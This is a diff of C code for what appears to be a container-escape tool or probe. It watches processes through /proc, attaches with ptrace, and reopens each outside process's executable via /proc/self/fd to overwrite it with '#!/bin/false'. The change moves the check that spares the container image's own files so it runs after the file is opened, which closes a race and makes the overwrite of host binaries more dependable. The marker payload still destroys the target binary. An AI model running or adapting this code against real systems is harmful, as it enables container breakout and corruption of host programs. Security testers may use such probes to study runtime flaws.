@@ -23,15 +23,13 @@
 
 static long seen, attached, marks, written;
 
-/* Whether the program of that process is one of the image's: a file that is there in our root. */
-static int is_ours(const char *pid)
+/* Whether what link leads to is a file of the image's: it is there in our root under the same name. */
+static int is_ours(const char *link)
 {
-	char link[300], path[512];
+	char path[512];
 	struct stat theirs, ours;
-	ssize_t n;
+	ssize_t n = readlink(link, path, sizeof(path) - 1);
 
-	snprintf(link, sizeof(link), "/proc/%s/exe", pid);
-	n = readlink(link, path, sizeof(path) - 1);
 	if (n < 0)
 		return 0;
 	path[n] = '\0';
@@ -53,6 +51,7 @@ static void look_below(const char *pid, const char *what, const char *mark)
 static void watch_one(const char *pid, const char *mark)
 {
 	pid_t number = (pid_t)atoi(pid);
+	char link[300];
 
 	look_below(pid, "root", mark);
 	look_below(pid, "cwd", mark);
@@ -65,10 +64,10 @@ static void watch_one(const char *pid, const char *mark)
 	if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
 		return;
 	/* it may have become the container's own program meanwhile: then there is nothing to it */
-	if (!is_ours(pid)) {
-		char link[300], path[200] = "";
+	snprintf(link, sizeof(link), "/proc/%s/exe", pid);
+	if (!is_ours(link)) {
+		char path[200] = "";
 
-		snprintf(link, sizeof(link), "/proc/%s/exe", pid);
 		if (readlink(link, path, sizeof(path) - 1) > 0) {
 			printf("attached to %s: %s\n", pid, path);
 			attached++;
@@ -84,8 +83,6 @@ static void overwrite_one(const char *pid)
 	char path[300], again[64];
 	int fd, out;
 
-	if (is_ours(pid))
-		return;
 	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
 	fd = open(path, O_RDONLY | O_CLOEXEC);
 	if (fd < 0)
@@ -94,11 +91,19 @@ static void overwrite_one(const char *pid)
 		return;
 	/* while it runs, the file is busy; held by our descriptor, it is not any more when that has ended */
 	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
+	if (is_ours(again)) { /* looked at only now: it may have become one of ours meanwhile */
+		close(fd);
+		return;
+	}
 	for (int tries = 0; tries < 2000; tries++) {
 		out = open(again, O_WRONLY | O_CLOEXEC);
 		if (out >= 0) {
+			char name[200] = "";
+
 			if (write(out, "#!/bin/false\n", 13) > 0)
 				written++;
+			if (readlink(again, name, sizeof(name) - 1) > 0)
+				printf("opened for writing: %s\n", name);
 			close(out);
 			break;
 		}
